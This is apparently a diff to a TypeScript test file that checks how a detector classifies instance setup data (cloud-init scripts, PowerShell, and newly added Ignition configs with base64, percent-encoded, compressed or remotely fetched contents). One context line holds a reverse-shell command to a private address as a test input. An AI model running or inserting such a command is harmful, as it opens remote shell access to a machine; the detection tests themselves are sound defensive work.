@@ -11,6 +11,7 @@ type Cases = readonly (readonly [name: string, text: string, expected: Expected]
 const script = (...lines: readonly string[]) => ["#!/bin/bash", ...lines, ""].join("\n");
 const config = (...lines: readonly string[]) => ["#cloud-config", ...lines, ""].join("\n");
 const powershell = (...lines: readonly string[]) => ["<powershell>", ...lines, "</powershell>"].join("\n");
+const ignition = (settings: object) => JSON.stringify({ ignition: { version: "3.4.0" }, ...settings });
 const COMPRESSED = gzipSync("#!/bin/sh\necho hello\n").toString("utf8");
 const KEY = base64("-----BEGIN PUBLIC KEY-----");
 
@@ -532,6 +533,89 @@ const HIDDEN: Cases = [
         "unknown",
     ],
     ["a shell of others", script("bash -i >& /dev/tcp/10.0.0.4/80 0>&1"), "unknown"],
+    [
+        "Ignition with a file in base64",
+        ignition({
+            storage: {
+                files: [
+                    {
+                        path: "/etc/environment",
+                        contents: { source: `data:;base64,${base64("https_proxy=http://10.0.0.5:3128")}` },
+                    },
+                ],
+            },
+        }),
+        "unknown",
+    ],
+    [
+        "Ignition with a file in percents",
+        ignition({
+            storage: {
+                files: [
+                    {
+                        path: "/etc/environment",
+                        contents: { source: "data:,http%73_proxy=http://10.0.0.5:3128" },
+                    },
+                ],
+            },
+        }),
+        "unknown",
+    ],
+    [
+        "Ignition with a harmless file",
+        ignition({
+            storage: {
+                files: [
+                    {
+                        path: "/etc/motd",
+                        contents: { source: `data:text/plain;charset=utf-8;base64,${base64("hello")}` },
+                    },
+                ],
+            },
+        }),
+        "no",
+    ],
+    [
+        "Ignition with a compressed file",
+        ignition({
+            storage: {
+                files: [
+                    {
+                        path: "/etc/x",
+                        contents: {
+                            compression: "gzip",
+                            source: `data:;base64,${gzipSync("hello").toString("base64")}`,
+                        },
+                    },
+                ],
+            },
+        }),
+        "unknown",
+    ],
+    [
+        "Ignition with a file from elsewhere",
+        ignition({ storage: { files: [{ path: "/etc/x", contents: { source: "s3://example/x" } }] } }),
+        "unknown",
+    ],
+    [
+        "Ignition with another configuration",
+        ignition({
+            ignition: { version: "3.4.0", config: { merge: [{ source: "http://10.0.0.9/c.ign" }] } },
+        }),
+        "unknown",
+    ],
+    [
+        "Ignition that is replaced",
+        ignition({
+            ignition: { version: "3.4.0", config: { replace: { source: "https://example.com/c.ign" } } },
+        }),
+        "unknown",
+    ],
+    [
+        "a picture in a page",
+        script("cat > /var/www/html/index.html <<EOF", `<img src="data:image/png;base64,${KEY}">`, "EOF"),
+        "no",
+    ],
 ];
 
 const FETCHED: Cases = [
